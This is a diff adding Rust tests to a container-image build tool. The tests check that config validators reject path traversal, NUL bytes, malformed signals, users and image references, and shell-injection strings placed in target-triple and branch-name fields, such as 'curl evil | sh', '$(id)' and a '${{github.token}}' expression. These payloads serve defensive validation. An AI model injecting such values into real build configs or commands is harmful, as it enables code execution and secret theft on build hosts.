@@ -313,3 +313,409 @@ fn sbom_key_reads_its_three_values_and_names_itself_when_bad() {
         assert!(e.contains("images/release.toml"), "{bad}: {e}");
     }
 }
+
+/// `GOOD` with `extra` lines added to the native image `worker`.
+fn worker_with(extra: &str) -> String {
+    GOOD.replace(
+        "user = \"65532:65532\"",
+        &format!("user = \"65532:65532\"\n{extra}"),
+    )
+}
+
+#[test]
+fn late_failing_values_are_refused_at_load_naming_the_key() {
+    let files = |dst: &str| {
+        GOOD.replace(
+            "native = { cargo-bin = \"worker\" }",
+            &format!(
+                "native = {{ files = [{{ src = \"backend/Dockerfile\", dst = \"{dst}\" }}] }}"
+            ),
+        )
+    };
+    let cases: Vec<(String, &str, &str)> = vec![
+        (
+            files("/../../etc/x"),
+            "images.worker.native.files[0].dst",
+            "`..`",
+        ),
+        (
+            files("/usr/bin/a\\u0000b"),
+            "images.worker.native.files[0].dst",
+            "NUL",
+        ),
+        (
+            files("usr/bin/x"),
+            "images.worker.native.files[0].dst",
+            "absolute",
+        ),
+        (
+            GOOD.replace(
+                "native = { cargo-bin = \"worker\" }",
+                "native = { cargo-bin = \"worker\", dst = \"/bin/../../x\" }",
+            ),
+            "images.worker.native.dst",
+            "`..`",
+        ),
+        (
+            worker_with("stop-signal = \"SIGNOPE\""),
+            "images.worker.stop-signal",
+            "not a signal",
+        ),
+        (
+            worker_with("stop-signal = \"0\""),
+            "images.worker.stop-signal",
+            "not a signal",
+        ),
+        (
+            GOOD.replace("user = \"65532:65532\"", "user = \"root\\n\""),
+            "images.worker.user",
+            "not a user",
+        ),
+        (
+            GOOD.replace("user = \"65532:65532\"", "user = \"a:b:c\""),
+            "images.worker.user",
+            "not a user",
+        ),
+        (
+            worker_with("env = { \"A=B\" = \"x\" }"),
+            "images.worker.env",
+            "not a variable name",
+        ),
+        (
+            worker_with("env = { \"\" = \"x\" }"),
+            "images.worker.env",
+            "not a variable name",
+        ),
+        (
+            worker_with("env = { \"A\\u0000\" = \"x\" }"),
+            "images.worker.env",
+            "not a variable name",
+        ),
+        (
+            worker_with("env = { A = \"x\\u0000y\" }"),
+            "images.worker.env.A",
+            "NUL",
+        ),
+        (
+            GOOD.replace(
+                "latest = \"auto\"",
+                "latest = \"auto\"\ndefault-branch = \"\"",
+            ),
+            "release.default-branch",
+            "empty",
+        ),
+        (
+            GOOD.replace("scratch", "oci:/abs/path"),
+            "images.worker.base",
+            "absolute path",
+        ),
+        (
+            GOOD.replace("scratch", "oci:../other:latest"),
+            "images.worker.base",
+            "leaves the workspace",
+        ),
+        (
+            GOOD.replace("scratch", "Not A Reference"),
+            "images.worker.base",
+            "registry reference",
+        ),
+        (
+            worker_with("working-dir = \"srv\""),
+            "images.worker.working-dir",
+            "absolute",
+        ),
+        (
+            worker_with("volumes = [\"/data\", \"/x/../..\"]"),
+            "images.worker.volumes[1]",
+            "`..`",
+        ),
+        (
+            worker_with("exposed-ports = [\"0\"]"),
+            "images.worker.ports",
+            "1-65535",
+        ),
+        (
+            worker_with("labels = { \"a=b\" = \"x\" }"),
+            "images.worker.labels",
+            "not a label key",
+        ),
+        (
+            worker_with("labels = { \"org.opencontainers.image.revision\" = \"x\" }"),
+            "images.worker.labels",
+            "set by stevedore",
+        ),
+        (
+            GOOD.replace(
+                "entrypoint = [\"/usr/local/bin/worker\"]",
+                "entrypoint = [\"/a\\u0000\"]",
+            ),
+            "images.worker.entrypoint[0]",
+            "NUL",
+        ),
+        (
+            worker_with("healthcheck = { test = [\"CMD\", \"x\\u0000\"] }"),
+            "images.worker.healthcheck.test[1]",
+            "NUL",
+        ),
+        (
+            GOOD.replace(
+                "build-args = { NODE_ENV = \"production\" }",
+                "build-args = { \"A B\" = \"x\" }",
+            ),
+            "images.backend.build-args",
+            "not a variable name",
+        ),
+        (
+            GOOD.replace(
+                "context = \"backend\"",
+                "context = \"backend\"\ntarget = \"\"",
+            ),
+            "images.backend.target",
+            "must not be empty",
+        ),
+        (
+            GOOD.replace(
+                "latest = \"auto\"",
+                "latest = \"auto\"\nsecret-build-args = [\"A=B\"]",
+            ),
+            "release.secret-build-args[0]",
+            "not a variable name",
+        ),
+        (
+            GOOD.replace("name = \"votive\"", "name = \"votive\\n\""),
+            "release.name",
+            "control character",
+        ),
+        (
+            GOOD.replace(
+                "latest = \"auto\"",
+                "latest = \"auto\"\ninsecure-registries = [\"a b:5000\"]",
+            ),
+            "release.insecure-registries[0]",
+            "host[:port]",
+        ),
+        (
+            GOOD.replace(
+                "native = { cargo-bin = \"worker\" }",
+                "native = { cargo-bin = \"worker; id\" }",
+            ),
+            "images.worker.native.cargo-bin",
+            "not a cargo",
+        ),
+    ];
+    for (text, key, why) in cases {
+        let e = error_of(&text);
+        assert!(e.contains(&format!("{key}:")), "{key}: {e}");
+        assert!(e.contains(why), "{key} ({why}): {e}");
+        assert!(e.contains("1 problem\n"), "{key}: {e}");
+    }
+}
+
+#[test]
+fn well_formed_image_config_values_load() {
+    let d = root();
+    for extra in [
+        "stop-signal = \"SIGQUIT\"",
+        "stop-signal = \"TERM\"",
+        "stop-signal = \"SIGRTMIN+3\"",
+        "stop-signal = \"9\"",
+        "env = { RUST_LOG = \"info\", \"my.var\" = \"a=b\" }",
+        "working-dir = \"/srv\"",
+        "volumes = [\"/data\"]",
+        "exposed-ports = [\"8080\", \"53/udp\"]",
+        "labels = { \"com.example.team\" = \"core\", \"org.opencontainers.image.title\" = \"w\" }",
+        "native.targets = { \"linux/amd64\" = \"x86_64-unknown-linux-musl\" }",
+    ] {
+        let text = if let Some(t) = extra.strip_prefix("native.targets = ") {
+            GOOD.replace(
+                "native = { cargo-bin = \"worker\" }",
+                &format!("native = {{ cargo-bin = \"worker\", targets = {t} }}"),
+            )
+        } else {
+            worker_with(extra)
+        };
+        parse(d.path(), &text).unwrap_or_else(|e| panic!("{extra}: {e}"));
+    }
+    for user in [
+        "root",
+        "65532",
+        "65532:65532",
+        "app:app",
+        "www-data",
+        "nobody:nogroup",
+    ] {
+        let text = GOOD.replace("user = \"65532:65532\"", &format!("user = \"{user}\""));
+        parse(d.path(), &text).unwrap_or_else(|e| panic!("{user}: {e}"));
+    }
+    std::fs::create_dir_all(d.path().join("layouts/nginx")).unwrap();
+    for base in [
+        "alpine:3.20",
+        "gcr.io/distroless/static:nonroot",
+        "oci:layouts/nginx",
+        "oci:layouts/nginx:1.27",
+        "oci:target/nginx-oci",
+    ] {
+        let text = GOOD.replace("scratch", base);
+        parse(d.path(), &text).unwrap_or_else(|e| panic!("{base}: {e}"));
+    }
+}
+
+#[test]
+fn rust_target_triples_are_checked() {
+    for good in [
+        "x86_64-unknown-linux-gnu",
+        "x86_64-unknown-linux-musl",
+        "aarch64-unknown-linux-gnu",
+        "aarch64-unknown-linux-musl",
+        "armv7-unknown-linux-gnueabihf",
+        "arm-unknown-linux-musleabihf",
+        "i686-unknown-linux-gnu",
+        "riscv64gc-unknown-linux-gnu",
+        "powerpc64le-unknown-linux-gnu",
+        "s390x-unknown-linux-gnu",
+        "wasm32-wasip1",
+        "wasm32-unknown-unknown",
+        "aarch64-apple-darwin",
+        "x86_64-pc-windows-msvc",
+        "thumbv7em-none-eabihf",
+        "x86_64-unknown-linux-gnux32",
+    ] {
+        checks::target_triple(good).unwrap_or_else(|e| panic!("{good}: {e}"));
+    }
+    for bad in [
+        "",
+        "x86_64",
+        "x86_64-unknown-linux-gnu; curl evil | sh",
+        "x86_64-unknown-linux-gnu $(id)",
+        "x86_64-unknown-linux-gnu\nrm",
+        "X86_64-unknown-linux-gnu",
+        "-x86_64-unknown",
+        "x86_64--linux",
+        "a-b-c-d-e-f",
+        "my-target.json'",
+        "x86_64-unknown-linux-`id`",
+    ] {
+        let e = checks::target_triple(bad).unwrap_err();
+        assert!(e.contains("not a Rust target triple"), "{bad}: {e}");
+    }
+}
+
+#[test]
+fn branch_names_follow_git_check_ref_format() {
+    for good in [
+        "main",
+        "master",
+        "trunk",
+        "release/1.x",
+        "feature/foo-bar_baz",
+        "v1.2",
+        "a.b",
+        "dev@home",
+        "ça-va",
+        "fix#12",
+        "a=b,c",
+    ] {
+        checks::branch_name(good).unwrap_or_else(|e| panic!("{good}: {e}"));
+    }
+    for (bad, why) in [
+        ("", "empty"),
+        ("-x", "starts with `-`"),
+        ("HEAD", "reserves"),
+        ("@", "reserves"),
+        ("a b", "space"),
+        ("a\nb", "control"),
+        ("a\u{7f}", "control"),
+        ("a~1", "`~`"),
+        ("a^", "`^`"),
+        ("a:b", "`:`"),
+        ("a?", "glob"),
+        ("a*", "glob"),
+        ("a[", "glob"),
+        ("a\\b", "`\\`"),
+        ("a..b", "`..`"),
+        ("a@{1}", "`@{`"),
+        ("/a", "`/`"),
+        ("a/", "`/`"),
+        ("a//b", "`//`"),
+        ("a.", "ends with `.`"),
+        (".a", "starts with `.`"),
+        ("a/.b", "starts with `.`"),
+        ("a.lock", "`.lock`"),
+        ("a.lock/b", "`.lock`"),
+        ("main}}", "expression"),
+        ("${{github.token}}", "expression"),
+        ("main$(id)", "shell"),
+        ("main;id", "shell"),
+        ("`id`", "shell"),
+        ("!main", "filter"),
+        ("x{y", "shell"),
+        ("main'; curl evil | sh; '", "space"),
+    ] {
+        let e = checks::branch_name(bad).unwrap_err();
+        assert!(e.contains("not a git branch name"), "{bad:?}: {e}");
+        assert!(e.contains(why), "{bad:?} ({why}): {e}");
+    }
+}
+
+#[test]
+fn bad_native_targets_and_default_branch_are_named() {
+    let e = error_of(&GOOD.replace(
+        "native = { cargo-bin = \"worker\" }",
+        "native = { cargo-bin = \"worker\", targets = { \"linux/amd64\" = \"x86_64-unknown-linux-gnu; id\" } }",
+    ));
+    assert!(
+        e.contains("images.worker.native.targets.\"linux/amd64\": \"x86_64-unknown-linux-gnu; id\" is not a Rust target triple"),
+        "{e}"
+    );
+    let e = error_of(&GOOD.replace(
+        "latest = \"auto\"",
+        "latest = \"auto\"\ndefault-branch = \"main$(id)\"",
+    ));
+    assert!(e.contains("release.default-branch"), "{e}");
+}
+
+#[test]
+fn signals_users_and_image_paths_follow_their_grammars() {
+    for good in [
+        "SIGTERM",
+        "sigterm",
+        "KILL",
+        "SIGRTMAX-2",
+        "64",
+        "1",
+        "SIGWINCH",
+    ] {
+        checks::stop_signal(good).unwrap_or_else(|e| panic!("{good}: {e}"));
+    }
+    for bad in [
+        "",
+        "SIGNOPE",
+        "65",
+        "0",
+        "SIGRTMIN+16",
+        "SIG",
+        "-9",
+        "SIGTERM\n",
+    ] {
+        checks::stop_signal(bad).unwrap_err();
+    }
+    for bad in [
+        "",
+        ":",
+        "root:",
+        ":root",
+        "root\n",
+        "a b",
+        "-x",
+        "4294967296",
+        "a;b",
+    ] {
+        checks::user(bad).unwrap_err();
+    }
+    for good in ["/", "/usr/local/bin/app", "/srv/", "/a/./b", "/a..b/c"] {
+        checks::image_path(good).unwrap_or_else(|e| panic!("{good}: {e}"));
+    }
+    for bad in ["", "x", "/..", "/a/../b", "/a\0b", "/a\nb"] {
+        checks::image_path(bad).unwrap_err();
+    }
+}
